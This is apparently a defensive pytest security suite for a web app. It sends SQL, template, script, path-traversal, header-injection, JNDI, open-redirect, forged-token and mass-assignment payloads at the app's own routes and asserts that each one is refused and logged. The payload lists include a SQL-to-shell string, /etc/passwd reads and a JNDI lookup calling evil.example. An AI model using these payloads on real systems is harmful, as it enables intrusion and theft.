"""What is typed or sent to break out of its place: into SQL, a template, a page, a header, a redirect, a cache.

A table of tries, generated from payloads and places; every one is answered without a fault of ours, does nothing, and
is noted where an operator reads. A sample runs every day, all of them in the long run.
"""

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
from litestar.routes import HTTPRoute
from tests.attacks.conftest import Attacker
from tests.conftest import BASE
from tests.world import FANG, REGION, WEI

from tongban.web.app import WITHOUT_FORM_TOKEN
from tongban.web.signed_in import SESSION_COOKIE

SQL = (
    "' OR '1'='1' --",
    "1; DROP TABLE cases; --",
    "' UNION SELECT password_hash FROM accounts --",
    "'; COPY accounts TO PROGRAM 'sh' --",
    "' OR pg_sleep(5) IS NULL --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_read_file('/etc/passwd'); --",
    "x' AND (SELECT pg_sleep(5)) IS NOT NULL AND 'a'='a",
    "1 UNION ALL SELECT sealed FROM persons",
    "'||(SELECT version())||'",
)
TEMPLATE = (
    "{{7919*7927}}",
    "${7919*7927}",
    "<%= 7919*7927 %>",
    "#{7919*7927}",
    "{{config.items()}}",
    "{% import os %}",
)
SCRIPT = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "'-alert(1)-'<script>",
    "</title><script>alert(1)</script>",
)
PATHS = ("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\windows", "%252e%252e%252f",
         "....//....//etc/passwd", "%00", "/etc/passwd%00.png")  # fmt: skip
LINES = ("%0d%0aSet-Cookie:%20evil=1", "%0aX-Evil:%201", "%E5%98%8D%E5%98%8ASet-Cookie:evil=1", "%0d%0a%0d%0a<html>")
ELSEWHERE = (
    "https://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example", "/\t/evil.example",
    "https:evil.example", "javascript:alert(1)", "data:text/html,x", "/%09/evil.example", "//evil.example/..;/",
    "https://tongban.test@evil.example/", "/\n/evil.example", "http:///evil.example", "//%65vil.example",
)  # fmt: skip
READ = (
    (None, "/search?q={}"), (None, "/catalogue?q={}"), (None, "/verify/{}"), (FANG, "/matters?q={}&state={}"),
    (WEI, "/desk/search?number={}"), (WEI, "/desk?q={}&tab={}"), (WEI, "/desk/catalogue?q={}"), (None, "/guides/{}"),
    (WEI, "/desk/directory?q={}"), (FANG, "/api/v1/drafts?after={}"), (None, "/api/v1/verify/{}"),
)  # fmt: skip


@dataclass(frozen=True)
class Try:
    """One try. ``kind``: what it is; ``never``: what its answer may not hold; ``reason``: under what it is noted."""

    kind: str
    name: str | None
    path: str
    reason: str
    method: str = "GET"
    data: Any = None
    never: tuple[str, ...] = ()
    token: bool = True
    headers: Any = None

    @property
    def label(self) -> str:
        """How the test names it."""
        return re.sub(r"[^\w/.?={}-]", "_", f"{self.kind}-{self.path}")[:90]


def _typed() -> list[Try]:
    """Payloads in every place that people type into."""
    found = []
    for kind, payloads in (("sql", SQL), ("template", TEMPLATE), ("script", SCRIPT)):
        for payload in payloads:
            never = {"sql": ("argon2", "PostgreSQL 1"), "template": ("62773913",), "script": (payload,)}[kind]
            for name, path in READ:
                found.append(Try(kind, name, path.replace("{}", quote(payload, safe="")), "hostile", never=never))
            form = {"login": payload, "password": payload, "next": payload}
            found.append(Try(kind, None, "/sign-in", "hostile", "POST", form, never))
            body = {"name": payload, "region": REGION, "journey": payload}
            found.append(Try(kind, FANG, "/api/v1/drafts", "hostile", "POST", body, never))
    return found


def _addresses() -> list[Try]:
    """Payloads as parts of addresses and in headers."""
    places = ("/static/{}", "/log/tile/{}", "/verify/{}", "/guides/{}", "/api/v1/schema/{}")
    found = [Try("path", None, place.format(p), "hostile", never=("root:",)) for p in PATHS for place in places]
    for line in LINES:
        for place in ("/sign-in?next=/{}", "/search?q={}", "/guides/{}", "/verify?code={}", "/language?to={}"):
            found.append(Try("header", None, place.format(line), "hostile"))
    for sent in (
        "Mozilla\x1b[2Jcleared",
        "x ${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
    ):
        for header in ("user-agent", "referer", "accept-language"):
            found.append(Try("log", None, "/search?q=a", "hostile", headers={header: sent}, never=(sent,)))
    for header in ("x-original-url", "x-rewrite-url", "x-http-method-override"):
        found.append(Try("override", None, "/search?q=a", "hostile", headers={header: "/desk"}))
    return found


def _tokens() -> list[Try]:
    """Credentials that open nothing, at pages, at the API and at the directory's door."""
    forged = (
        "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ3YW5nZmFuZyJ9.", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ3YW5nZmFuZyJ9.AAAA", "null",
        "undefined", "0", "' OR 1=1 --", "A" * 43, "A" * 4000, "../../root", "\x7f", "admin:admin", "true",
    )  # fmt: skip
    found = []
    for one in forged:
        bearer = {"authorization": f"Bearer {one}"}
        for path in ("/api/v1/cases", "/scim/v2/Users", "/api/v1/library/feed", "/api/v1/catalogue-feed"):
            found.append(Try("token", None, path, "signed-out", headers=bearer))
        found.append(Try("token", None, "/matters", "signed-out", headers={"cookie": f"{SESSION_COOKIE}={quote(one)}"}))
    return found


def _unfit() -> list[Try]:
    """Requests that no page and no program of ours sends."""
    kept = "/api/v1/drafts"
    bodies = (
        {"region": [REGION]},
        {"region": {"$ne": None}, "journey": "birth"},
        [],
        "x" * 3_000_000,
        {"region": None},
    )
    found = [Try("unfit", FANG, kept, "unfit", "POST", body) for body in bodies]
    found += [Try("unfit", None, path, "unfit", "DELETE") for path in ("/sign-in", "/search", "/guides/birth")]
    return found


TRIES = [*_typed(), *_addresses(), *_tokens(), *_unfit()]


def _sampled(tries: Sequence[Try], every: int) -> list[Any]:
    return [
        pytest.param(one, id=f"{number}-{one.label}", marks=() if number % every == 0 else pytest.mark.long)
        for number, one in enumerate(tries)
    ]


def test_there_are_enough_tries_of_every_kind() -> None:
    assert len(TRIES) > 300
    kinds = {"sql", "template", "script", "path", "header", "log", "override", "token", "unfit"}
    assert {one.kind for one in TRIES} == kinds


@pytest.mark.parametrize("one", _sampled(TRIES, 40))
async def test_a_try_does_nothing_and_is_noted(attacker: Attacker, one: Try) -> None:
    before = await _noted(attacker, one)
    sent = {"json": one.data} if one.path.startswith("/api/") and one.data is not None else {"data": one.data}
    answer = await attacker.send(one.name, one.method, one.path, headers=one.headers or {}, **sent)
    page = answer.text if "json" not in answer.headers["content-type"] else ""  # no browser runs what JSON holds
    assert [said for said in one.never if said in page] == []
    assert "evil" not in answer.headers.get("set-cookie", "") and "x-evil" not in answer.headers
    assert answer.elapsed.total_seconds() < 3
    if one.kind in ("token", "unfit"):
        assert answer.status_code in (303, 400, 401, 405, 413, 422)
    assert await _noted(attacker, one) > before or answer.status_code == 422


async def _noted(attacker: Attacker, one: Try) -> int:
    """What cannot even be read is a visitor's, whoever sent it: nobody was asked yet who that is."""
    own = await attacker.noted(one.name, one.reason) if one.name else 0
    return own + await attacker.noted(None, one.reason)


def _forms(attacker: Attacker) -> list[str]:
    routes = [route for route in attacker.door.litestar.routes if isinstance(route, HTTPRoute)]
    posts = sorted({route.path_format for route in routes if "POST" in route.methods})
    return [path for path in posts if not any(re.match(free, path) for free in WITHOUT_FORM_TOKEN)]


FOR_PROGRAMS = {
    "/identity/token",
    "/identity/introspect",
    "/identity/revoke",
    "/identity/userinfo",
    "/identity/sign-out",
    "/identity/signed-out",
    "/identity/authorize",
}
"""What applications and other sites send forms to: none of them changes anything for a cookie alone."""


@pytest.mark.parametrize("every", [20, pytest.param(1, marks=pytest.mark.long)])
async def test_no_form_of_another_site_is_taken_and_each_is_noted(attacker: Attacker, every: int) -> None:
    ids = {"region": REGION, "journey": "birth"}
    paths = [path for path in _forms(attacker) if path not in FOR_PROGRAMS][::every]
    before = await attacker.noted(None, "form-token") + await attacker.noted(FANG, "form-token")
    for path in paths:
        address = re.sub(r"{(\w+)}", lambda part: ids.get(part[1], "01980000-0000-7000-8000-000000000000"), path)
        for token in (
            {},
            {"x-csrftoken": "A" * 96},
            {"origin": "https://evil.example", "sec-fetch-site": "cross-site"},
        ):
            answer = await attacker.send(FANG, "POST", address, token=False, headers=token, data={"revision": "1"})
            assert answer.status_code == 403, (address, token)
    after = await attacker.noted(None, "form-token") + await attacker.noted(FANG, "form-token")
    assert after - before == 3 * len(paths) > 0


def _is_local(address: str) -> bool:
    """Whether every browser takes it for a path of this site."""
    parts = urlsplit(address)
    return not parts.scheme and not parts.netloc and re.match(r"/(?![/\\\s])|$", address) is not None


@pytest.mark.parametrize(
    "target", [pytest.param(one, marks=pytest.mark.long if at > 1 else ()) for at, one in enumerate(ELSEWHERE)]
)
async def test_nobody_is_led_elsewhere(attacker: Attacker, target: str) -> None:
    for path in (f"/sign-in?next={quote(target)}", f"/account/confirm?next={quote(target)}"):
        page = await attacker.send(FANG, "GET", path)
        assert _is_local(page.headers.get("location", ""))
    for path, form in (
        ("/language", {"language": "en", "next": target, "back": target}),
        ("/large-type", {"large": "1", "next": target, "back": target}),
        ("/sign-in", {"login": "wangfang", "password": "tongban-2026", "next": target}),
    ):
        answer = await attacker.send(None, "POST", path, data=form, headers={"referer": target.strip()})
        assert _is_local(answer.headers.get("location", ""))


async def test_a_session_that_somebody_planted_is_not_the_one_that_is_opened(attacker: Attacker) -> None:
    transport = httpx.ASGITransport(app=attacker.door)  # type: ignore[arg-type]
    planted = "P" * 43
    async with httpx.AsyncClient(transport=transport, base_url=BASE) as client:
        client.cookies.set(SESSION_COOKIE, planted, domain="tongban.test", path="/")
        await client.get("/sign-in")
        form = {
            "login": "wangfang",
            "password": "tongban-2026",
            "_csrf_token": client.cookies.get("tongban_form") or "",
        }
        answer = await client.post("/sign-in", data=form)
        assert answer.status_code == 303
        opened = client.cookies.get(SESSION_COOKIE)
        assert opened and opened != planted
    before = await attacker.noted(None, "signed-out")
    stale = await attacker.send(None, "GET", "/matters", headers={"cookie": f"{SESSION_COOKIE}={planted}"})
    assert stale.status_code == 303 and await attacker.noted(None, "signed-out") == before + 1


PERSONAL = (
    "/matters",
    "/matters/x.css",
    "/matters;x.css",
    "/matters%2fx.css",
    "/my-data",
    "/my-data/logo.png",
    "/account",
    "/licences",
    "/licences/a.js",
    "/messages",
    "/messages/",
    "/api/v1/cases",
    "/api/v1/cases/style.css",
)


@pytest.mark.parametrize(
    "path", [pytest.param(one, marks=pytest.mark.long if at > 2 else ()) for at, one in enumerate(PERSONAL)]
)
async def test_no_cache_keeps_a_page_of_somebody_s_or_takes_one_address_for_another(
    attacker: Attacker, path: str
) -> None:
    for headers in ({}, {"x-forwarded-host": "evil.example"}, {"host": "evil.example"}, {"x-forwarded-scheme": "http"}):
        answer = await attacker.send(FANG, "GET", path, headers=headers)
        assert answer.headers["cache-control"] == "no-store"
        assert "evil.example" not in answer.text + repr(answer.headers)
        visitor = await attacker.send(None, "GET", path, headers=headers)
        assert visitor.status_code in (303, 401, 404) and FANG not in visitor.text


async def test_a_page_from_memory_is_kept_for_each_language_and_poisoned_by_no_header(attacker: Attacker) -> None:
    evil = {"x-forwarded-host": "evil.example", "host": "evil.example", "accept-language": "en"}
    await attacker.send(None, "GET", "/", headers=evil)
    plain = await attacker.send(None, "GET", "/", headers={"accept-language": "zh-CN"})
    assert "evil.example" not in plain.text and plain.headers["content-language"] == "zh-CN"
    assert {"accept-language", "cookie"} <= {part.strip().lower() for part in plain.headers["vary"].split(",")}


EXTRA: dict[str, Any] = {
    "account": "01980000-0000-7000-8000-000000000000", "owner": "x", "enterprise": None, "state": "closed",
    "assurance": "strong", "role": "administrator", "posts": [{"role": "administrator"}], "submitted_at": None,
    "revision": 99, "id": "01980000-0000-7000-8000-000000000000", "__proto__": {"admin": True},
}  # fmt: skip
"""Fields that nobody asks for."""


async def test_what_is_not_asked_for_is_not_taken(attacker: Attacker) -> None:
    world = attacker.world
    body = {"region": REGION, "journey": "birth", **EXTRA}
    await attacker.send(FANG, "POST", "/api/v1/drafts", json=body)
    made = (await attacker.send(FANG, "POST", "/api/v1/drafts", json={"region": REGION, "journey": "birth"})).json()
    place = f"/api/v1/drafts/{REGION}/{made['id']}"
    noticed = (await attacker.send(FANG, "PUT", f"{place}/notice", json={"consents": []})).json()
    sent = {"revision": noticed["revision"], "values": {**EXTRA, "mobile": "19900002001"}, **EXTRA}
    await attacker.send(FANG, "PUT", f"{place}/form", json={**sent, "revision": noticed["revision"]})
    read = (await attacker.send(FANG, "GET", place)).json()
    assert not set(read["values"]) & set(EXTRA)
    rows = await world.rows("SELECT account, submitted_at FROM drafts WHERE journey = 'birth'")
    assert {row.account for row in rows} == {world.accounts[FANG]} and {row.submitted_at for row in rows} == {None}
    form = {
        "login": "mallory",
        "name": "马洛",
        "password": "a long enough 7 passphrase",
        **{k: str(v) for k, v in EXTRA.items()},
    }
    await attacker.send(None, "POST", "/register", data=form)
    roles = await world.one(
        "SELECT count(*) FROM posts p JOIN accounts a ON a.id = p.account WHERE a.login = 'mallory'"
    )
    assert roles == 0 and await world.one("SELECT assurance FROM accounts WHERE login = 'wangfang'") != "strong"
